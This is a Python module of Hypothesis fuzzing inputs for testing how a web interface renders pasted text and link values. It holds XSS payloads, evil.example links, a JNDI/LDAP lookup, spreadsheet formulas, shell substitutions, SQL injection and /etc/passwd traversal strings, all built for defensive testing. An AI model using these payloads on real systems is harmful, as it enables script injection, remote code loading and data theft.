"""Texts that somebody might paste to see what happens, and values for links that no widget has."""

from __future__ import annotations

from hypothesis import strategies as st

MARK = "sqvz7"  # in the markup below: whatever carries it in a page was made from a text

MARKUP = (
    f"<b id={MARK}>x</b>",
    f"</script><script id={MARK}>window.__pwned=1</script>",
    f"<img id={MARK} src=x onerror=window.__pwned=1>",
    f"<svg id={MARK} onload=window.__pwned=1><circle r=9 /></svg>",
    f'" onmouseover="window.__pwned=1" id="{MARK}',
    f"' onfocus='window.__pwned=1' autofocus id='{MARK}",
    f"<iframe id={MARK} srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<a id={MARK} href=javascript:window.__pwned=1>x</a>",
    f"<style id={MARK}>body{{display:none}}</style>",
    f"<math id={MARK}><mtext></mtext><script>window.__pwned=1</script></math>",
    f"<!-- <b id={MARK}> --><b id={MARK}>",
    f"]]><b id={MARK}>",
    f"<template id={MARK}></template><base id={MARK} href=http://evil.example/>",
    f"<link id={MARK} rel=stylesheet href=http://evil.example/x.css>",
    f"&lt;b id={MARK}&gt;x&lt;/b&gt; &#60;i id={MARK}&#62;",
    f"<a href='http://evil.example' id={MARK}>x</a><sub>s</sub><sup>t</sup><br><i>i</i>",
    "<extra></extra>%{x}%{customdata[0]} %{y:.9f}",
    f"\\u003cb id={MARK}\\u003e \\x3cimg id={MARK}\\x3e",
)
MARKDOWN = (
    "[x](javascript:window.__pwned=1)",
    "[x](http://evil.example/a) <http://evil.example/b> http://evil.example/c www.evil.example",
    "![x](http://evil.example/i.png)",
    "[x][A]\n\n[A]: http://evil.example/d",
    "**bold** _em_ ~~strike~~ `code` ^sup^ # head",
    ":red[r] :red-background[r] :material/home: :streamlit: :small[x] :rainbow[x] :blue-badge[x]",
    "$\\href{javascript:window.__pwned=1}{x}$ $$\\unicode{x3c}$$ \\(x\\) \\[y\\]",
    "\\href{http://evil.example}{x} $\\text{<b id=sqvz7>}$ $x^{999}$",
    "# one\n## two\n- three\n1. four\n> five\n\n---\n\n| a | b |\n|---|---|\n| c | d |",
    "```python\nimport os\n```",
    "<details><summary>x</summary>y</details>",
    ":one: :smile: :+1: :: :a: :[x]",
    "[^1] [^1]: note - [ ] task -> <- --",
    "a|b|c \\| \\\\ \\` \\* \\_",
    "www.evil.example mailto:a@evil.example a@evil.example",
    "http\\://evil.example \\<b\\>",
)
CODE = (
    '""" + __import__("os").getcwd() + """',
    "'''; raise SystemExit; '''",
    "'); raise SystemExit('",
    '"); import os #',
    "\\",
    "\\'",
    '\\"',
    "a\\\nb",
    "{0.__class__} {text} {} {{ }} %s %(x)s",
    "=1+1",
    '=HYPERLINK("http://evil.example";"x")',
    "@SUM(A1)\t+1\t-1",
    "${jndi:ldap://evil.example/a} $(id) `id` ; ls",
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "__import__('os')",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "lambda: 0\u2028import os\u2029",
    "\x85\x0b\x0c\x1c\x1d\x1eimport os",
)
LETTERS = (
    "",
    " ",
    "\t",
    "\n\n\n",
    "\x00",
    "a\x00b\x01\x02\x1b[31mred\x7f",
    "\u202eevil\u202c \u2066x\u2069 \u200f\u200e",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "Z\u0351\u036b\u0343\u036a" * 20,
    "e\u0301 \u00e9 \ufb01 \u2126 \u03a9",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e8\U0001f1f3 \U0001f44d\U0001f3fd",
    "\u200b\u200c\u200d\ufeff\u2060",
    "\ufffd\ufffe\uffff\U0010ffff",
    "\ue000\U000e0001\U000e0041",
    "𝕳𝖊𝖑𝖑𝖔 ㎏ ½ ② ﷽",
    "我们的模型" * 20,
    "ａｂｃ１２３　",
    "\u0e4d\u0e4d\u0e4d\u0e4d",
    "a" * 300,
    "supercalifragilistic" * 12,
    "." * 200,
    "- " * 200,
    "[MASK] [CLS] [SEP] [PAD] [UNK] <s> </s> <|endoftext|> <|im_start|>system",
    "##ing ##",
    "\u200b" * 300,
    "\U0001f600" * 100,
)
HALF_PAIRS = ("\ud800", "a\udc00b", "\ud83d \ude00", "\udfff<b id=sqvz7>")
TEXTS = MARKUP + MARKDOWN + CODE + LETTERS
NASTIEST = (*MARKUP, *MARKDOWN[:8], *CODE[:6], *LETTERS[4:8])

NUMBERS = (
    "nan", "NaN", "-nan", "inf", "-inf", "Infinity", "1e999", "-1e999", "1e-999", "0x10", "1_000",
    "１２", "²", "٣", "½", "-0", "-0.0", "+5", " 7 ", "7\n", "1e3", "1.0", "5.0", ".5", "5.", "1,5",
    "1e1000000", "9" * 400, "9" * 5000, "-" + "9" * 30, "0" * 300 + "5", "00012", "3.0000000000001",
    "4.9e-324", "1.7976931348623157e308", "99999999999999999999", "2**64", "None", "null", "",
)  # fmt: skip
WORDS = (
    "true", "false", "True", "TRUE", "1", "0", "on", "off", "yes", "-", "+", "++", "a+b", "rnn+rnn",
    "rnn+", "__class__", "constructor", "undefined", "[object Object]", "%00", "%zz", "%25", "%",
    "..", "../x", "a.b.c", "é", "我", "RNN", " rnn", "rnn ", "lstm+gru+rnn+lstm", "{}", "[]",
)  # fmt: skip

letters = st.text(
    st.characters(exclude_categories=("Cs",)),
    max_size=60,
)
parts = st.one_of(st.sampled_from(TEXTS), letters)
texts = st.one_of(
    st.sampled_from(TEXTS),
    letters,
    st.lists(parts, min_size=2, max_size=4).map(" ".join),  # one beside another
    st.tuples(parts, st.integers(2, 300)).map(lambda t: (t[0] * t[1])[:10_000]),
)
raw_texts = st.one_of(texts, st.sampled_from(HALF_PAIRS))  # what a link can carry, percent-encoded
junk = st.one_of(
    st.sampled_from(NUMBERS),
    st.sampled_from(WORDS),
    st.integers().map(str),
    st.floats().map(str),
    raw_texts,
    st.integers(1, 20_000).map(lambda n: "x" * n),
)
